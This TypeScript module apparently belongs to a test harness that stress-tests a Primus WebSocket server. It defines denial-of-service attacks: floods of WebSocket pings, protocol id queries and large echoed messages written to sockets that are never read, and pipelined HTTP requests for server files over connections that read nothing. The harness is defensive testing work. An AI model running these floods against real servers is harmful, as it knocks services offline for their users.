import { frame, PING } from '../wire/websocket.js';
import { type Attack, type Attacker, everywhere } from './attacker.js';

const CONNECTIONS = 20;

/** Writes a load again and again to sockets that are not read. */
async function flood(attacker: Attacker, load: Buffer): Promise<void> {
  const sockets = await attacker.webSockets(CONNECTIONS, '');
  for (const socket of sockets) socket.pause();
  await everywhere(CONNECTIONS, async (place) => {
    const socket = sockets[place];
    while (attacker.goesOn && socket?.writable) {
      await attacker.write(socket, load);
      await new Promise((resolve) => setImmediate(resolve));
    }
  });
}

const repeat = (part: Buffer, count: number) => Buffer.concat(Array.from({ length: count }, () => part));

/** Pings of the WebSocket protocol; the pongs are not read. */
export const pings: Attack = {
  name: 'pings whose pongs are not read',
  scenario: 14,
  appliesTo: ({ dialect }) => dialect !== undefined,
  run: (attacker) => flood(attacker, repeat(frame(PING, 'x'.repeat(125)), 500)),
};

/** Questions of our own protocol for the id; the answers are not read. */
export const idQuestions: Attack = {
  name: 'questions for the id, answers not read',
  scenario: 14,
  appliesTo: ({ dialect }) => dialect !== undefined,
  run: (attacker) => flood(attacker, repeat(attacker.message('"primus::id::"'), 500)),
};

/** Messages that the application echoes; the echoes are not read. */
export const unreadEchoes: Attack = {
  name: 'echoes that are not read',
  scenario: 14,
  appliesTo: ({ dialect }) => dialect !== undefined,
  run: (attacker) => flood(attacker, attacker.message(JSON.stringify('x'.repeat(30_000)))),
};

/** Pipelined requests for a file of the server on connections that read nothing. */
function pipelined(name: string, target: string): Attack {
  return {
    name,
    scenario: 0,
    async run(attacker: Attacker) {
      const request = `GET ${target} HTTP/1.1\r\nHost: x\r\nAccept-Encoding: identity\r\n\r\n`;
      const load = request.repeat(200);
      await everywhere(40, async () => {
        const socket = await attacker.sockets.connect();
        socket.pause();
        while (attacker.goesOn && socket.writable) {
          await attacker.write(socket, load);
          await new Promise((resolve) => setImmediate(resolve));
        }
      });
    },
  };
}

export const unreadLibrary = pipelined('pipelined requests for primus.js, not read', '/primus/primus.js');
export const unreadSpec = pipelined('pipelined requests for spec, not read', '/primus/spec');
export const unreadRejections = pipelined('pipelined requests that are rejected, not read', '/primus/nothing');
